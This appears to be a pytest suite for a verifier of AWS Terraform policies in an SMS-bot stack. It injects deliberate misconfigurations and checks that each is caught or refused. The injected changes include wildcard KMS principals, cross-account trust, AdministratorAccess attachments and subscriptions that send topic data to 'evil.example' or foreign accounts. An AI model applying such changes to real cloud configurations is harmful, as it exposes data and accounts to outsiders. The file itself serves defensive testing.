"""Ways around the proofs that somebody tried: each is found, or refused."""

import json
import sys
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from smsbot.access.proofs.everything import prove
from smsbot.coverage.coverage import coverage
from smsbot.failure import Failure
from smsbot.loaders.configuration.load import load_configuration
from stacks.declared.declarations import declarations_of
from tests.smsbot.access.conftest import ENVIRONMENTS, Model, stack_path
from tests.smsbot.access.faults.faulty import (
    ACCOUNT,
    INBOUND,
    OUR_ARN,
    Config,
    add_resource,
    add_statement,
    both,
    change_statement,
    change_trust,
    drop_statement,
    policy_of,
    set_argument,
)
from tests.stacks.synthesized import PLAIN

TOPICS = [INBOUND, INBOUND.replace("inbound-sms", "delivery-status")]
OTHER = "999988887777"
BOT = f"{OUR_ARN}:role/smsbot-dev-compute-role-bot"
ANYBODY = {"Sid": "X", "Effect": "Allow", "Principal": "*", "Action": "kms:*", "Resource": "*"}
OPEN_POLICY = json.dumps({"Version": "2012-10-17", "Statement": [ANYBODY]})
EVERYTHING_ON_KEYS = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [{"Sid": "X", "Effect": "Allow", "Action": "kms:*", "Resource": "*"}],
    }
)
PublishOrSubscribe = ["sns:Subscribe", "sns:Publish"]


def condition(  # noqa: PLR0917 - it reads as a path
    kind: str, name: str, sid: str, operator: str, key: str, value: Any
) -> Callable[[Config], None]:
    def put_in(config: Config) -> None:
        with policy_of(config, kind, name) as document:
            (statement,) = (each for each in document["Statement"] if each["Sid"] == sid)
            for conditions in statement["Condition"].values():
                conditions.pop(key, None)
            statement["Condition"].setdefault(operator, {})[key] = value

    return put_in


def topic_policy_of_its_own(config: Config) -> None:
    config["resource"]["aws_sns_topic_policy"] = {
        "aaa": {
            "arn": "${aws_sns_topic.inbound-sms.arn}",
            "policy": json.dumps(
                {
                    "Version": "2012-10-17",
                    "Statement": [
                        {
                            "Sid": "X",
                            "Effect": "Allow",
                            "Principal": "*",
                            "Action": PublishOrSubscribe,
                            "Resource": INBOUND,
                        }
                    ],
                }
            ),
        },
        **config["resource"]["aws_sns_topic_policy"],
    }


def another_function(config: Config) -> None:
    functions = config["resource"]["aws_lambda_function"]
    functions["b2"] = {
        **{name: value for name, value in functions["bot"].items() if name != "environment"},
        "function_name": "b2",
        "source_kms_key_arn": "${aws_kms_key.smsbot.arn}",
    }
    config["resource"]["aws_lambda_permission"] |= {
        "b2": {
            "action": "lambda:InvokeFunction",
            "function_name": "${aws_lambda_function.b2.function_name}",
            "principal": "sns.amazonaws.com",
            "source_arn": "${aws_sns_topic.inbound-sms.arn}",
        },
        "evil": {
            "action": "lambda:InvokeFunction",
            "function_name": "${aws_lambda_function.bot.function_name}",
            "principal": OTHER,
        },
    }
    add_resource(
        "aws_sns_topic_subscription",
        "b2",
        topic_arn="${aws_sns_topic.inbound-sms.arn}",
        protocol="lambda",
        endpoint="${aws_lambda_function.b2.arn}",
    )(config)


def meta(kind: str, name: str, **arguments: Any) -> Callable[[Config], None]:
    def put_in(config: Config) -> None:
        config["resource"][kind][name].update(arguments)

    return put_in


def nameless_role(config: Config) -> None:
    config["resource"]["aws_iam_role"]["x"] = {
        "name_prefix": "x",
        "assume_role_policy": config["resource"]["aws_iam_role"]["bot-role"]["assume_role_policy"],
    }
    add_resource(
        "aws_iam_role_policy", "x", role="${aws_iam_role.x.name}", policy=EVERYTHING_ON_KEYS
    )(config)


FIRST_ATTACKS: dict[str, Callable[[Config], None]] = {
    "another account in the trust policy": lambda config: change_trust(
        config, {"Service": "lambda.amazonaws.com", "AWS": f"arn:aws:iam::{OTHER}:root"}
    ),
    "a unique id in the trust policy": lambda config: change_trust(
        config, {"Service": "lambda.amazonaws.com", "AWS": "AROAEXAMPLEID1234567"}
    ),
    "another account in a condition": both(
        change_statement("aws_kms_key", "dynamodb", "DeployRoleUse", Principal="*"),
        condition(
            "aws_kms_key",
            "dynamodb",
            "DeployRoleUse",
            "ArnEquals",
            "aws:PrincipalArn",
            [f"{OUR_ARN}:role/deploy", f"arn:aws:iam::{OTHER}:role/*"],
        ),
    ),
    "a topic of another account as the source": both(
        condition(
            "aws_kms_key",
            "smsbot",
            "SnsForQueues",
            "StringEquals",
            "aws:SourceAccount",
            [ACCOUNT, OTHER],
        ),
        condition(
            "aws_kms_key",
            "smsbot",
            "SnsForQueues",
            "ArnLike",
            "aws:SourceArn",
            [*TOPICS, f"arn:aws:sns:eu-west-1:{OTHER}:evil"],
        ),
    ),
    "a topic of another account sends to the queue": condition(
        "aws_sqs_queue_policy",
        "dead-letter",
        "SentByTopics",
        "ArnEquals",
        "aws:SourceArn",
        [*TOPICS, f"arn:aws:sns:eu-west-1:{OTHER}:evil"],
    ),
    "a publisher of another account": both(
        *(
            condition(kind, name, "PublisherSmsVoice", operator, key, value)
            for kind, name in (("aws_kms_key", "sns"), ("aws_sns_topic_policy", "inbound-sms"))
            for operator, key, value in (
                ("StringEquals", "aws:SourceAccount", [ACCOUNT, OTHER]),
                (
                    "ArnLike",
                    "aws:SourceArn",
                    [
                        f"arn:aws:sms-voice:eu-west-1:{ACCOUNT}:*",
                        f"arn:aws:sms-voice:*:{OTHER}:*",
                    ],
                ),
            )
        )
    ),
    "two key policies": both(
        add_resource(
            "aws_kms_key_policy", "a", key_id="${aws_kms_key.sns.key_id}", policy=OPEN_POLICY
        ),
    ),
    "two topic policies": topic_policy_of_its_own,
    "a topic policy beside an inline one": meta("aws_sns_topic", "inbound-sms", policy=OPEN_POLICY),
    "a grant by an alias": add_resource(
        "aws_kms_grant",
        "evil",
        key_id="${aws_kms_alias.dynamodb.target_key_arn}",
        grantee_principal=f"arn:aws:iam::{OTHER}:root",
        operations=["Decrypt"],
    ),
    "a grant without operations": add_resource(
        "aws_kms_grant",
        "evil",
        key_id="${aws_kms_key.dynamodb.key_id}",
        grantee_principal=f"arn:aws:iam::{OTHER}:root",
    ),
    "a key policy by an alias": add_resource(
        "aws_kms_key_policy",
        "evil",
        key_id="${aws_kms_alias.dynamodb.target_key_arn}",
        policy=OPEN_POLICY,
    ),
    "an attachment to a role that is not found": add_resource(
        "aws_iam_role_policy_attachment",
        "evil",
        role="smsbot-elsewhere",
        policy_arn="arn:aws:iam::aws:policy/AdministratorAccess",
    ),
    "a role without a name": nameless_role,
    "an inline policy that is no list": meta(
        "aws_iam_role",
        "bot-role",
        inline_policy={"name": "evil", "policy": EVERYTHING_ON_KEYS},
    ),
    "every action of a service": change_statement(
        "aws_iam_role_policy", "bot-role-store-and-count", "StoreMessages", Action="dynamodb:*"
    ),
    "every action on other resources too": change_statement(
        "aws_iam_role_policy",
        "bot-role-store-and-count",
        "StoreMessages",
        Resource=[
            "${aws_dynamodb_table.conversations.arn}",
            "arn:aws:iam::*:*",
        ],
    ),
    "every resource": change_statement(
        "aws_iam_role_policy", "bot-role-publish-status", "PublishStatus", Resource="*"
    ),
    "keys that are not of the stack": change_statement(
        "aws_iam_role_policy",
        "bot-role-use-sns-key",
        "UseKeyThroughSns",
        Resource=["${aws_kms_key.sns.arn}", f"arn:aws:kms:eu-west-1:{ACCOUNT}:key/1234abcd-*"],
    ),
    "a surplus for somebody else as well": add_statement(
        "aws_kms_key",
        "dynamodb",
        Principal="*",
        Action=["kms:ReEncrypt*", "kms:GenerateDataKey*"],
        Resource="*",
        Condition={
            "ArnLike": {"aws:PrincipalArn": [BOT, f"arn:aws:iam::{OTHER}:role/*"]},
            "StringEquals": {"kms:CallerAccount": OTHER},
        },
    ),
    "a permission among those of another function": another_function,
    "a subscription of somebody outside": add_resource(
        "aws_sns_topic_subscription",
        "evil",
        topic_arn="${aws_sns_topic.inbound-sms.arn}",
        protocol="https",
        endpoint="https://evil.example/x",
    ),
    "a queue of another account as subscriber": add_resource(
        "aws_sns_topic_subscription",
        "evil",
        topic_arn="${aws_sns_topic.inbound-sms.arn}",
        protocol="sqs",
        endpoint=f"arn:aws:sqs:eu-west-1:{OTHER}:q",
    ),
    "log events sent outside": add_resource(
        "aws_cloudwatch_log_subscription_filter",
        "evil",
        log_group_name="x",
        destination_arn=f"arn:aws:logs:eu-west-1:{OTHER}:destination:evil",
    ),
    "a replica under a key of AWS": meta(
        "aws_dynamodb_table", "analytics", replica=[{"region_name": "us-east-1"}]
    ),
    "a key that is disabled by a text": set_argument("aws_kms_key", "sns", "is_enabled", "false"),
    "a key that signs": set_argument("aws_kms_key", "sns", "key_usage", "SIGN_VERIFY"),
    "a topic that takes messages without TLS": drop_statement(
        "aws_sns_topic_policy", "inbound-sms", "DeniedWithoutTls"
    ),
    "a queue that takes messages without TLS": drop_statement(
        "aws_sqs_queue_policy", "dead-letter", "DeniedWithoutTls"
    ),
    "the service of another region": both(
        condition(
            "aws_kms_key",
            "sns",
            "RoleThroughSns",
            "StringEquals",
            "kms:ViaService",
            ["sns.eu-west-1.amazonaws.com", "sns.us-east-1.amazonaws.com"],
        ),
        condition(
            "aws_iam_role_policy",
            "bot-role-use-sns-key",
            "UseKeyThroughSns",
            "StringEquals",
            "kms:ViaService",
            ["sns.eu-west-1.amazonaws.com", "sns.us-east-1.amazonaws.com"],
        ),
    ),
    "a condition for calls that say their source": condition(
        "aws_kms_key", "smsbot", "SnsForQueues", "ArnLikeIfExists", "aws:SourceArn", TOPICS
    ),
    "an alarm to a topic under the key of AWS": both(
        set_argument("aws_sns_topic", "inbound-sms", "kms_master_key_id", "alias/aws/sns"),
        add_resource(
            "aws_cloudwatch_metric_alarm",
            "errors",
            alarm_name="errors",
            alarm_actions=["${aws_sns_topic.inbound-sms.arn}"],
        ),
    ),
}


def without_describe(*more: Callable[[Config], None]) -> Callable[[Config], None]:
    """The deploy role's statement split, so that its surplus stands alone."""
    return both(
        change_statement(
            "aws_kms_key",
            "dynamodb",
            "DeployRoleUse",
            Action=["kms:Encrypt", "kms:Decrypt", "kms:ReEncrypt*", "kms:GenerateDataKey*"],
        ),
        add_statement(
            "aws_kms_key",
            "dynamodb",
            Principal={"AWS": f"{OUR_ARN}:root"},
            Action="kms:DescribeKey",
            Resource="*",
            Condition={
                "ArnEquals": {"aws:PrincipalArn": f"{OUR_ARN}:role/deploy"},
                "StringEquals": {"kms:ViaService": "dynamodb.eu-west-1.amazonaws.com"},
            },
        ),
        *more,
    )


def deploy_role_is(*arns: str) -> Callable[[Config], None]:
    return without_describe(
        condition(
            "aws_kms_key",
            "dynamodb",
            "DeployRoleUse",
            "ArnLike",
            "aws:PrincipalArn",
            [f"{OUR_ARN}:role/deploy", *arns],
        )
    )


def void_denial(config: Config) -> None:
    with policy_of(config, "aws_kms_key", "sns") as document:
        (denial,) = (
            each for each in document["Statement"] if each["Sid"] == "UsersDoNotAdminister"
        )
        del denial["Resource"]
        denial["NotResource"] = "arn:aws:kms:*:*:key/*-*"


def other_dead_letters(config: Config) -> None:
    elsewhere = f"arn:aws:sqs:eu-west-1:{ACCOUNT}:elsewhere"
    set_argument(
        "aws_sns_topic_subscription",
        "inbound-sms",
        "redrive_policy",
        json.dumps({"deadLetterTargetArn": elsewhere}),
    )(config)
    for kind, name, sid in (
        ("aws_kms_key", "smsbot", "SnsForQueues"),
        ("aws_sqs_queue_policy", "dead-letter", "SentByTopics"),
    ):
        operator = "ArnLike" if kind == "aws_kms_key" else "ArnEquals"
        condition(kind, name, sid, operator, "aws:SourceArn", TOPICS[1:])(config)


def function_with_an_outside_role(config: Config) -> None:
    another_function(config)
    del config["resource"]["aws_lambda_permission"]["evil"]
    config["resource"]["aws_lambda_function"]["b2"]["role"] = f"{OUR_ARN}:role/Admin"


def logs_elsewhere(config: Config) -> None:
    config["resource"]["aws_lambda_function"]["bot"]["logging_config"]["log_group"] = "elsewhere"
    arn = f"arn:aws:logs:eu-west-1:{ACCOUNT}:log-group:elsewhere:*"
    change_statement("aws_iam_role_policy", "bot-role-write-logs", "WriteLogs", Resource=arn)(
        config
    )


ATTACKS = FIRST_ATTACKS | {
    "any topic of the account by its number's form": condition(
        "aws_kms_key",
        "smsbot",
        "SnsForQueues",
        "ArnLike",
        "aws:SourceArn",
        [*TOPICS, "arn:aws:sns:*:????????????:*"],
    ),
    "any topic of no account": condition(
        "aws_kms_key",
        "smsbot",
        "SnsForQueues",
        "ArnLike",
        "aws:SourceArn",
        [*TOPICS, "arn:aws:s3:::*"],
    ),
    "a role of an account that may be this one": deploy_role_is(
        "arn:aws:iam::111122223333:role/evil"
    ),
    "roles of an account by its number's form": deploy_role_is("arn:aws:iam::????????????:role/*"),
    "federated users": deploy_role_is(f"arn:aws:sts::{ACCOUNT}:federated-user/*"),
    "a denial that is about no key": void_denial,
    "dead letters to somewhere else": other_dead_letters,
    "an event target with a role from outside": add_resource(
        "aws_cloudwatch_event_target",
        "evil",
        rule="x",
        arn=f"arn:aws:logs:eu-west-1:{OTHER}:destination:evil",
        role_arn=f"{OUR_ARN}:role/outside",
    ),
    "a stream that delivers outside": add_resource(
        "aws_kinesis_firehose_delivery_stream",
        "evil",
        name="evil",
        destination="http_endpoint",
        server_side_encryption={
            "enabled": True,
            "key_type": "CUSTOMER_MANAGED_CMK",
            "key_arn": "${aws_kms_key.smsbot.arn}",
        },
    ),
    "a function with a role from outside": function_with_an_outside_role,
    "a function that logs elsewhere": logs_elsewhere,
    "an instance of a cluster with insights": add_resource(
        "aws_rds_cluster_instance", "x", identifier="x", performance_insights_enabled=True
    ),
    "two encryptions of a bucket": both(
        add_resource("aws_s3_bucket", "b", bucket="b"),
        *(
            add_resource(
                "aws_s3_bucket_server_side_encryption_configuration",
                name,
                bucket="b",
                rule={
                    "apply_server_side_encryption_by_default": {
                        "sse_algorithm": algorithm,
                        "kms_master_key_id": "${aws_kms_key.smsbot.arn}",
                    }
                },
            )
            for name, algorithm in (("one", "aws:kms"), ("two", "AES256"))
        ),
    ),
    "the policy of a bucket": both(
        add_resource("aws_s3_bucket_policy", "b", bucket="b", policy=OPEN_POLICY),
    ),
    "a denial without TLS for some": change_statement(
        "aws_sns_topic_policy",
        "inbound-sms",
        "DeniedWithoutTls",
        Principal={"Service": "sms-voice.amazonaws.com", "AWS": BOT},
    ),
    "a topic without a policy": add_resource(
        "aws_sns_topic", "new", name="new", kms_master_key_id="${aws_kms_key.sns.arn}"
    ),
    "a permission for an alias of the function": meta(
        "aws_lambda_permission", "inbound-sms", qualifier="live"
    ),
}


def test_a_denied_reader_is_a_call_that_fails(output: Path, tmp_path: Path) -> None:
    (environment,) = (each for each in ENVIRONMENTS if each.name == "readers")
    config = json.loads(stack_path(output, environment).read_text())
    add_statement(
        "aws_sqs_queue_policy",
        "dead-letter",
        Effect="Deny",
        Principal="*",
        Action="sqs:ReceiveMessage",
        Resource="*",
    )(config)
    path = tmp_path / "cdk.tf.json"
    path.write_text(json.dumps(config))
    declarations = declarations_of(environment)
    model = load_configuration(path, exemptions=declarations.exemptions)
    found = [str(each) for each in prove(model, declarations).findings]
    assert any("role auditor needs sqs:ReceiveMessage" in each for each in found)


def test_a_repeated_key_is_told(output: Path, tmp_path: Path) -> None:
    text = stack_path(output, PLAIN).read_text()
    path = tmp_path / "cdk.tf.json"
    path.write_text('{"resource": {},' + text.lstrip()[1:])
    with pytest.raises(Failure, match="'resource' is there twice"):
        load_configuration(path, exemptions={})


REFUSED: dict[str, Callable[[Config], None]] = {
    "a module": lambda config: config.update(module={"evil": {"source": "./evil"}}),
    "a dynamic block": meta(
        "aws_iam_role",
        "bot-role",
        dynamic={"inline_policy": {"for_each": ["x"], "content": {"policy": EVERYTHING_ON_KEYS}}},
    ),
    "no role policy at all": meta("aws_iam_role_policy", "bot-role-use-dynamodb-key", count=0),
    "no queue policy at all": meta("aws_sqs_queue_policy", "dead-letter", for_each={}),
    "another provider": meta("aws_kms_key", "sns", provider="aws.other"),
    "a policy that is not kept": meta(
        "aws_kms_key", "sns", lifecycle={"ignore_changes": ["policy"]}
    ),
    "a policy that is not kept, as a block": meta(
        "aws_kms_key", "sns", lifecycle=[{"ignore_changes": ["policy"]}]
    ),
    "two providers": lambda config: config["provider"]["aws"].append(
        {"alias": "other", "region": "eu-west-1"}
    ),
    "the account of another provider": lambda config: config["data"]["aws_caller_identity"].update(
        other={"provider": "aws.other"}
    ),
    "a key that another resource replaces": meta(
        "aws_kms_key", "sns", lifecycle={"replace_triggered_by": ["aws_lambda_function.bot"]}
    ),
    "a policy that is not enabled": meta(
        "aws_sns_topic_policy", "inbound-sms", lifecycle={"enabled": False}
    ),
    "another region of a resource": meta("aws_kms_key", "dynamodb", region="us-east-1"),
    "another region as data": lambda config: config["data"].update(
        aws_region={"r": {"region": "us-east-1"}}
    ),
    "an import": lambda config: config.update(
        {"import": [{"to": "aws_kms_key.sns", "id": "1234abcd-12ab-34cd-56ef-1234567890ab"}]}
    ),
    "a command of what is removed": lambda config: config.update(
        removed=[
            {
                "from": "aws_sns_topic.older",
                "provisioner": [{"local-exec": {"when": "destroy", "command": "true"}}],
            }
        ]
    ),
    "a command": meta("aws_kms_key", "sns", provisioner={"local-exec": {"command": "true"}}),
}


def found_in(config: Config, model: Model) -> list[str]:
    changed = model(config)
    return [
        str(each)
        for each in (
            *coverage(changed).findings,
            *prove(changed, declarations_of(PLAIN)).findings,
        )
    ]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_is_found(attack: str, configuration: Config, model: Model) -> None:
    ATTACKS[attack](configuration)
    try:
        found = found_in(configuration, model)
    except Failure as failure:
        found = [failure.problem]
    assert found


@pytest.mark.parametrize("attack", REFUSED)
def test_what_is_not_understood_is_refused(
    attack: str, configuration: Config, model: Model
) -> None:
    REFUSED[attack](configuration)
    with pytest.raises(Failure, match="not understood here"):
        model(configuration)


@pytest.mark.parametrize(
    "breaking",
    [
        meta("aws_sns_topic_subscription", "inbound-sms", redrive_policy='["x"]'),
        add_statement(
            "aws_kms_key",
            "sns",
            Principal={"AWS": "arn:aws:iam"},
            Action="kms:Decrypt",
            Resource="*",
        ),
        meta("aws_lambda_function", "bot", role="arn:x"),
    ],
)
def test_what_is_malformed_breaks_nothing(
    breaking: Callable[[Config], None], configuration: Config, model: Model
) -> None:
    breaking(configuration)
    assert found_in(configuration, model)


@pytest.mark.parametrize("depth", [700, 990, 2_000, 200_000])
def test_what_is_nested_too_deeply_is_told(
    depth: int, configuration: Config, tmp_path: Path
) -> None:
    """How deep that is depends on the release of Python; it is never a traceback."""
    configuration["resource"]["aws_sns_topic"]["inbound-sms"]["name"] = "NESTED"
    path = tmp_path / "cdk.tf.json"
    nested = "[" * depth + '"x"' + "]" * depth
    path.write_text(json.dumps(configuration).replace('"NESTED"', nested))
    if depth <= sys.getrecursionlimit():
        with suppress(Failure):
            load_configuration(path, exemptions={})
    else:
        with pytest.raises(Failure, match="nested too deeply"):
            load_configuration(path, exemptions={})


def test_a_second_alias_hides_nothing(configuration: Config, model: Model) -> None:
    aliases = configuration["resource"]["aws_kms_alias"]
    aliases["aaa"] = {**aliases["sns"], "name": "alias/other"}
    topic = configuration["resource"]["aws_sns_topic"]["inbound-sms"]
    topic["kms_master_key_id"] = aliases["sns"]["name"]
    found = found_in(configuration, model)
    assert len(found) == 2
    assert all(each.startswith("watching: aws_kms_key.sns (key ") for each in found)
